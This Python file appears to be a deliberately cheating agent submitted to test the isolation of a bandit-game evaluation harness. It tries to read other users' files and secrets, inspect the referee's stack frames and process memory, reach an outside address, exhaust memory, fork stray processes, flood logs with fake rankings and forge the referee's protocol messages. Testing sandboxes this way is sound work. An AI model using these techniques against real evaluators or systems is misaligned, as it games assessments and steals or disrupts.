"""Ten ways to cheat, which gain nothing: eight are tried while the file is loaded, two when it plays.

It expects to fail: what an attempt raises is ignored, and what it finds would decide the recommendation.
"""

import gc
import glob
import os
import socket
import sys
import threading
import time

import numpy as np

LOOT = []


def tries(attempt):
    """Run an attempt, and keep what it finds."""
    try:
        if found := attempt():
            LOOT.append((attempt.__name__, found))
    except BaseException:  # noqa: B036 (nothing may end the other attempts)
        pass


@tries
def reads_files():
    """Other submissions, results and secrets: whatever lies in a home, or in a repository."""
    here = os.path.dirname(os.path.abspath(__file__))
    return [
        path
        for pattern in ("/home/*/*", "/root/*", "/work/*", "/tmp/*/evaluation.toml")
        for path in glob.glob(pattern)
        if not path.startswith(here) and not sys.prefix.startswith(path) and os.path.isfile(path)
    ]


@tries
def reads_frames():
    """The instances, if a caller held them."""
    frame = sys._getframe()
    while frame := frame.f_back:
        if {"bandit", "truth", "instances"} & set(frame.f_locals):
            return dict(frame.f_locals)


@tries
def searches_memory():
    """The instances, if this process held them."""
    return [thing for thing in gc.get_objects() if type(thing).__name__.endswith("Bandit")]


@tries
def reads_the_memory_of_the_referee():
    """The process that holds the truth is the parent, or its parent."""
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        return memory.fileno()


@tries
def calls_for_help():
    """A socket to the outside."""
    return socket.create_connection(("192.0.2.1", 80), timeout=1)


@tries
def exhausts_memory():
    """Takes all the memory that it gets, and gives it back."""
    held = []
    while True:
        held.append(np.empty(2**25))


@tries
def forks():
    """Leaves processes behind; one of them never rests."""
    for number in range(8):
        if os.fork() == 0:
            if number % 2:
                os.setsid()
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                number and time.sleep(1)
            os._exit(0)


def prints_without_end():
    """Fills the log of the referee."""
    while True:
        os.write(2, b"rank 1: Cheat " * 4096)


threading.Thread(target=prints_without_end, daemon=True).start()


class MyAgent:
    """Plays what it has found, and forges the answers of the referee's own protocol."""

    def reset(self, info, rng):
        self.arms, self.batch = info.num_arms, info.batch
        frame = sys._getframe()
        while "answers" not in frame.f_locals:
            frame = frame.f_back
        self.pipe = frame.f_locals["answers"]

    def allocate(self, observation):
        """Forge a message that says how well it has done, then sleep."""
        self.pipe.write((9).to_bytes(8, "big") + b"rank: 1!!")
        self.pipe.flush()
        time.sleep(10**6)

    def recommend(self, observation):
        return np.full(self.batch, len(LOOT) % self.arms)
